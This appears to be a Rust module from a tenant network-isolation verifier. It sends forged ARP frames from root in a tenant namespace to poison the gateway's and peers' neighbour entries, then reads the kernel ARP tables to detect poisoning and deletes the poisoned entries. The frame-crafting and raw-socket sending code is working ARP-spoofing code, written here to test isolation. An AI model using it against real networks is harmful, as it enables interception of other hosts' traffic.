//! Neighbour (ARP) spoofing from root in a tenant's network namespace, and
//! reading the kernel's neighbour tables to see whether it worked.
//!
//! The frames go out through a packet socket (`AF_PACKET`) bound to the
//! tenant's own `eth0`, opened by a short thread that joined the tenant's
//! network namespace, as [`super::raw`] does for forged IP packets: the same
//! documented "stronger attacker" exception (a tenant that gets root in its
//! own namespaces). They meet the instance bridge like any frame of the
//! tenant's, and go nowhere else: the bridge carries only the instance's
//! tenant ports and the host.
//!
//! Whether the attack worked is read from the kernel, never from the
//! attacker's side: the host's entries on the instance bridge
//! (`/proc/net/arp`, the verifier's own namespace) and each other tenant's
//! entries (`/proc/<holder>/net/arp`, the table of the holder's network
//! namespace). An entry that maps any address but the attacker's own to the
//! attacker's MAC, or to the MAC it forged, is poisoned.

use std::fs::File;
use std::io;
use std::net::Ipv4Addr;
use std::os::fd::AsFd;
use std::path::Path;

use pnet_datalink::{Channel, Config, DataLinkSender};
use rustix::thread::LinkNameSpaceType;

/// A MAC address.
pub(crate) type Mac = [u8; 6];

/// The Ethernet broadcast address.
pub(crate) const BROADCAST_MAC: Mac = [0xff; 6];
/// ARP's "who has" and "is at".
const ARP_REQUEST: u16 = 1;
const ARP_REPLY: u16 = 2;
/// The tenant's interface, whatever the wiring.
pub(crate) const TENANT_IFNAME: &str = "eth0";

/// `aa:bb:cc:dd:ee:ff`.
pub(crate) fn format_mac(mac: Mac) -> String {
    mac.iter()
        .map(|b| format!("{b:02x}"))
        .collect::<Vec<_>>()
        .join(":")
}

/// Parses [`format_mac`]'s form.
pub(crate) fn parse_mac(text: &str) -> Option<Mac> {
    let mut mac = [0u8; 6];
    let mut parts = text.trim().split(':');
    for byte in &mut mac {
        *byte = u8::from_str_radix(parts.next()?, 16).ok()?;
    }
    parts.next().is_none().then_some(mac)
}

/// A locally administered unicast MAC no interface of the instance has,
/// distinct per `seed` (the attacker's index and the run's nonce).
pub(crate) fn forged_mac(seed: u32) -> Mac {
    let b = seed.to_be_bytes();
    [0x02, 0x62, b[0], b[1], b[2], b[3]]
}

/// One Ethernet frame carrying an ARP packet for IPv4 over Ethernet, padded
/// to the 60-byte minimum.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct ArpFrame {
    /// Ethernet destination.
    pub eth_dst: Mac,
    /// Ethernet source.
    pub eth_src: Mac,
    /// [`ARP_REQUEST`] or [`ARP_REPLY`].
    pub op: u16,
    /// The sender's hardware address (what a receiver learns).
    pub sender_mac: Mac,
    /// The sender's protocol address (what it learns it for).
    pub sender_ip: Ipv4Addr,
    /// The target's hardware address.
    pub target_mac: Mac,
    /// The target's protocol address.
    pub target_ip: Ipv4Addr,
}

impl ArpFrame {
    /// The frame's bytes.
    pub(crate) fn bytes(&self) -> Vec<u8> {
        let mut f = Vec::with_capacity(60);
        f.extend_from_slice(&self.eth_dst);
        f.extend_from_slice(&self.eth_src);
        f.extend_from_slice(&0x0806u16.to_be_bytes()); // ARP
        f.extend_from_slice(&1u16.to_be_bytes()); // Ethernet
        f.extend_from_slice(&0x0800u16.to_be_bytes()); // IPv4
        f.extend_from_slice(&[6, 4]);
        f.extend_from_slice(&self.op.to_be_bytes());
        f.extend_from_slice(&self.sender_mac);
        f.extend_from_slice(&self.sender_ip.octets());
        f.extend_from_slice(&self.target_mac);
        f.extend_from_slice(&self.target_ip.octets());
        f.resize(60, 0);
        f
    }
}

/// Who attacks, with which MACs, and whom it impersonates.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct SpoofPlan {
    /// The attacker's own address.
    pub own_ip: Ipv4Addr,
    /// Its `eth0`'s MAC.
    pub own_mac: Mac,
    /// The MAC it forges.
    pub forged_mac: Mac,
    /// The gateway (the host's address on the bridge).
    pub gateway_ip: Ipv4Addr,
    /// The bridge's MAC, if known (unicast to the gateway needs it).
    pub gateway_mac: Option<Mac>,
    /// Peers whose addresses it claims.
    pub peers: Vec<Ipv4Addr>,
}

impl SpoofPlan {
    /// The frames of one round:
    /// - gratuitous ARP (broadcast) claiming the gateway's address, with the
    ///   own and with the forged MAC (poisons every tenant's gateway entry);
    /// - per peer: gratuitous ARP claiming the peer's address (own MAC);
    ///   an ARP request to the peer's address "from" the gateway (own MAC:
    ///   the peer learns the gateway at the attacker); unicast ARP replies to
    ///   the gateway's MAC claiming the peer, with the own and with the
    ///   forged MAC; a unicast ARP request to the gateway from the peer's
    ///   address (a host learns from a request addressed to it even without
    ///   `arp_accept`).
    pub(crate) fn frames(&self) -> Vec<ArpFrame> {
        let zero = [0u8; 6];
        let mut out = Vec::new();
        let g = self.gateway_ip;
        for mac in [self.own_mac, self.forged_mac] {
            out.push(ArpFrame {
                eth_dst: BROADCAST_MAC,
                eth_src: mac,
                op: ARP_REQUEST,
                sender_mac: mac,
                sender_ip: g,
                target_mac: zero,
                target_ip: g,
            });
        }
        for &p in &self.peers {
            let m = self.own_mac;
            out.push(ArpFrame {
                eth_dst: BROADCAST_MAC,
                eth_src: m,
                op: ARP_REQUEST,
                sender_mac: m,
                sender_ip: p,
                target_mac: zero,
                target_ip: p,
            });
            out.push(ArpFrame {
                eth_dst: BROADCAST_MAC,
                eth_src: m,
                op: ARP_REQUEST,
                sender_mac: m,
                sender_ip: g,
                target_mac: zero,
                target_ip: p,
            });
            let Some(gm) = self.gateway_mac else { continue };
            for mac in [self.own_mac, self.forged_mac] {
                out.push(ArpFrame {
                    eth_dst: gm,
                    eth_src: mac,
                    op: ARP_REPLY,
                    sender_mac: mac,
                    sender_ip: p,
                    target_mac: gm,
                    target_ip: g,
                });
            }
            out.push(ArpFrame {
                eth_dst: gm,
                eth_src: m,
                op: ARP_REQUEST,
                sender_mac: m,
                sender_ip: p,
                target_mac: zero,
                target_ip: g,
            });
        }
        out
    }
}

/// One neighbour entry as `/proc/net/arp` shows it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Neighbour {
    /// The address.
    pub ip: Ipv4Addr,
    /// `ATF_*` flags (0x2 complete, 0x4 permanent; 0 incomplete).
    pub flags: u32,
    /// The hardware address (all zero while incomplete).
    pub mac: Mac,
    /// The interface.
    pub device: String,
}

impl Neighbour {
    /// `10.0.0.1 at 02:… (flags 0x2) on eth0`.
    pub(crate) fn describe(&self) -> String {
        format!(
            "{} at {} (flags {:#x}) on {}",
            self.ip,
            format_mac(self.mac),
            self.flags,
            self.device
        )
    }
}

/// Parses a `/proc/net/arp` table (a header line, then `IP address, HW
/// type, Flags, HW address, Mask, Device`); lines it cannot read are
/// skipped.
pub(crate) fn parse_table(text: &str) -> Vec<Neighbour> {
    text.lines()
        .skip(1)
        .filter_map(|line| {
            let f: Vec<&str> = line.split_whitespace().collect();
            if f.len() < 6 {
                return None;
            }
            Some(Neighbour {
                ip: f[0].parse().ok()?,
                flags: u32::from_str_radix(f[2].trim_start_matches("0x"), 16).ok()?,
                mac: parse_mac(f[3])?,
                device: f[5].to_owned(),
            })
        })
        .collect()
}

/// The neighbour table of the network namespace of `pid` (`None`: the
/// verifier's own, the host's).
pub(crate) fn read_table(pid: Option<u32>) -> io::Result<Vec<Neighbour>> {
    let path = match pid {
        Some(pid) => format!("/proc/{pid}/net/arp"),
        None => "/proc/net/arp".to_owned(),
    };
    std::fs::read_to_string(path).map(|text| parse_table(&text))
}

/// The entries of `table` that map an address other than `own_ip` to one
/// of `macs`.
pub(crate) fn poisoned<'a>(
    table: &'a [Neighbour],
    own_ip: Ipv4Addr,
    macs: &[Mac],
) -> Vec<&'a Neighbour> {
    table
        .iter()
        .filter(|n| n.ip != own_ip && macs.contains(&n.mac))
        .collect()
}

/// Removes neighbour entries `(device, address)` from the table of the
/// network namespace of `pid` (`None`: the verifier's own), over netlink
/// (`RTM_DELNEIGH`, from a thread that joined that namespace); how many the
/// kernel removed. An entry already gone is not an error.
pub(crate) fn delete_entries(
    pid: Option<u32>,
    entries: &[(String, Ipv4Addr)],
) -> io::Result<usize> {
    if entries.is_empty() {
        return Ok(0);
    }
    let netns = pid
        .map(|pid| File::open(format!("/proc/{pid}/ns/net")))
        .transpose()?;
    std::thread::scope(|scope| {
        scope
            .spawn(move || -> io::Result<usize> {
                if let Some(netns) = &netns {
                    rustix::thread::move_into_link_name_space(
                        netns.as_fd(),
                        Some(LinkNameSpaceType::Network),
                    )?;
                }
                delete_here(entries)
            })
            .join()
            .unwrap_or_else(|_| Err(io::Error::other("the namespace thread panicked")))
    })
}

/// `<linux/rtnetlink.h>`, `<linux/neighbour.h>`.
const RTM_DELNEIGH: u16 = 29;
const NLMSG_ERROR: u16 = 2;
const NLM_F_REQUEST: u16 = 0x1;
const NLM_F_ACK: u16 = 0x4;
const NDA_DST: u16 = 1;

/// [`delete_entries`] in the calling thread's namespace.
fn delete_here(entries: &[(String, Ipv4Addr)]) -> io::Result<usize> {
    use rustix::net::netlink::SocketAddrNetlink;
    use rustix::net::{AddressFamily, RecvFlags, SendFlags, SocketFlags, SocketType};
    let fd = rustix::net::socket_with(
        AddressFamily::NETLINK,
        SocketType::RAW,
        SocketFlags::CLOEXEC,
        None, // NETLINK_ROUTE
    )?;
    rustix::net::bind(&fd, &SocketAddrNetlink::new(0, 0))?;
    let mut removed = 0;
    let mut buf = vec![0u8; 4096];
    for (seq, (device, address)) in entries.iter().enumerate() {
        let Ok(index) = rustix::net::netdevice::name_to_index(&fd, device) else {
            continue;
        };
        let mut m = Vec::with_capacity(36);
        m.extend_from_slice(&36u32.to_ne_bytes());
        m.extend_from_slice(&RTM_DELNEIGH.to_ne_bytes());
        m.extend_from_slice(&(NLM_F_REQUEST | NLM_F_ACK).to_ne_bytes());
        m.extend_from_slice(&(seq as u32).to_ne_bytes());
        m.extend_from_slice(&0u32.to_ne_bytes());
        // struct ndmsg: family, padding, ifindex, state, flags, type.
        m.extend_from_slice(&[libc::AF_INET as u8, 0, 0, 0]);
        m.extend_from_slice(&index.to_ne_bytes());
        m.extend_from_slice(&[0, 0, 0, 0]);
        // NDA_DST.
        m.extend_from_slice(&8u16.to_ne_bytes());
        m.extend_from_slice(&NDA_DST.to_ne_bytes());
        m.extend_from_slice(&address.octets());
        rustix::net::send(&fd, &m, SendFlags::empty())?;
        let (_, len) = rustix::net::recv(&fd, &mut buf[..], RecvFlags::empty())?;
        // The acknowledgement: NLMSG_ERROR with 0 (done) or a negative errno.
        if len >= 20 && u16::from_ne_bytes([buf[4], buf[5]]) == NLMSG_ERROR {
            let code = i32::from_ne_bytes([buf[16], buf[17], buf[18], buf[19]]);
            if code == 0 {
                removed += 1;
            }
        }
    }
    Ok(removed)
}

/// A packet socket on the tenant's `eth0`, and that interface's MAC.
pub(crate) struct Eth0 {
    sender: Box<dyn DataLinkSender>,
    /// The MAC of the tenant's `eth0`.
    pub mac: Mac,
}

impl Eth0 {
    /// Opens it from a thread that joins the network namespace at `netns`
    /// (the socket stays in that namespace; the calling thread never
    /// changes namespace).
    pub(crate) fn open(netns: &Path) -> io::Result<Eth0> {
        let file = File::open(netns)?;
        std::thread::scope(|scope| {
            scope
                .spawn(move || -> io::Result<Eth0> {
                    rustix::thread::move_into_link_name_space(
                        file.as_fd(),
                        Some(LinkNameSpaceType::Network),
                    )?;
                    let interface = pnet_datalink::interfaces()
                        .into_iter()
                        .find(|i| i.name == TENANT_IFNAME)
                        .ok_or_else(|| {
                            io::Error::other(format!("no {TENANT_IFNAME} in the namespace"))
                        })?;
                    let mac = interface
                        .mac
                        .map(|m| [m.0, m.1, m.2, m.3, m.4, m.5])
                        .ok_or_else(|| io::Error::other(format!("{TENANT_IFNAME} has no MAC")))?;
                    let config = Config {
                        promiscuous: false,
                        ..Config::default()
                    };
                    match pnet_datalink::channel(&interface, config)? {
                        Channel::Ethernet(sender, _receiver) => Ok(Eth0 { sender, mac }),
                        _ => Err(io::Error::other("not an Ethernet channel")),
                    }
                })
                .join()
                .unwrap_or_else(|_| Err(io::Error::other("the namespace thread panicked")))
        })
    }

    /// Sends `frame`; the errno if the kernel refused it.
    pub(crate) fn send(&mut self, frame: &[u8]) -> Option<i32> {
        match self.sender.send_to(frame, None) {
            Some(Ok(())) => None,
            Some(Err(e)) => Some(e.raw_os_error().unwrap_or(libc::EIO)),
            None => Some(libc::ENOBUFS),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const TABLE: &str = "\
IP address       HW type     Flags       HW address            Mask     Device
10.9.0.1         0x1         0x2         02:62:00:00:00:07     *        eth0
10.9.0.3         0x1         0x0         00:00:00:00:00:00     *        eth0
10.9.0.4         0x1         0x6         0a:0b:0c:0d:0e:0f     *        bhbr
garbage
";

    #[test]
    fn arp_tables_are_read_with_flags_macs_and_devices() {
        let t = parse_table(TABLE);
        assert_eq!(t.len(), 3);
        assert_eq!(t[0].ip, Ipv4Addr::new(10, 9, 0, 1));
        assert_eq!(t[0].flags, 2);
        assert_eq!(t[0].mac, [2, 0x62, 0, 0, 0, 7]);
        assert_eq!(t[1].mac, [0; 6], "incomplete");
        assert_eq!((t[2].flags, t[2].device.as_str()), (6, "bhbr"));
        assert_eq!(
            t[0].describe(),
            "10.9.0.1 at 02:62:00:00:00:07 (flags 0x2) on eth0"
        );
    }

    #[test]
    fn only_other_addresses_at_the_attackers_macs_are_poisoned() {
        let t = parse_table(TABLE);
        let forged = [2, 0x62, 0, 0, 0, 7];
        // The attacker is 10.9.0.1 with the forged MAC: its own entry is fine.
        assert!(poisoned(&t, Ipv4Addr::new(10, 9, 0, 1), &[forged]).is_empty());
        // Anyone else at that MAC is poisoned.
        let found = poisoned(&t, Ipv4Addr::new(10, 9, 0, 8), &[[9; 6], forged]);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].ip, Ipv4Addr::new(10, 9, 0, 1));
        // An incomplete entry (all-zero MAC) is never the attacker's.
        assert!(poisoned(&t, Ipv4Addr::new(10, 9, 0, 8), &[[9; 6]]).is_empty());
    }

    #[test]
    fn macs_round_trip_and_forged_ones_are_local_unicast() {
        let m = forged_mac(0x0102_0304);
        assert_eq!(format_mac(m), "02:62:01:02:03:04");
        assert_eq!(parse_mac("02:62:01:02:03:04"), Some(m));
        assert_eq!(parse_mac("02:62:01:02:03"), None);
        assert_eq!(parse_mac("02:62:01:02:03:04:05"), None);
        assert_eq!(m[0] & 0x03, 0x02, "locally administered, unicast");
    }

    #[test]
    fn a_round_claims_the_gateway_and_each_peer_every_way() {
        let plan = SpoofPlan {
            own_ip: Ipv4Addr::new(10, 9, 0, 2),
            own_mac: [2, 0, 0, 0, 0, 2],
            forged_mac: forged_mac(7),
            gateway_ip: Ipv4Addr::new(10, 9, 0, 1),
            gateway_mac: Some([2, 0, 0, 0, 0, 1]),
            peers: vec![Ipv4Addr::new(10, 9, 0, 3), Ipv4Addr::new(10, 9, 0, 4)],
        };
        let frames = plan.frames();
        assert_eq!(frames.len(), 2 + 2 * 5);
        // Nothing ever claims the attacker's own address.
        assert!(frames.iter().all(|f| f.sender_ip != plan.own_ip));
        // The forged MAC is used in both the Ethernet and the ARP header.
        assert!(frames.iter().all(|f| f.eth_src == f.sender_mac));
        assert!(frames.iter().any(|f| f.sender_mac == plan.forged_mac));
        // Unicast goes to the gateway's MAC only.
        assert!(
            frames
                .iter()
                .all(|f| f.eth_dst == BROADCAST_MAC || f.eth_dst == [2, 0, 0, 0, 0, 1])
        );
        let bytes = frames[0].bytes();
        assert_eq!(bytes.len(), 60);
        assert_eq!(&bytes[12..14], &[0x08, 0x06], "ARP ether type");
        assert_eq!(&bytes[20..22], &[0, 1], "request");
        assert_eq!(&bytes[28..32], &[10, 9, 0, 1], "claims the gateway");
        // Without the gateway's MAC, only broadcasts.
        let plan = SpoofPlan {
            gateway_mac: None,
            ..plan
        };
        assert_eq!(plan.frames().len(), 2 + 2 * 2);
    }
}
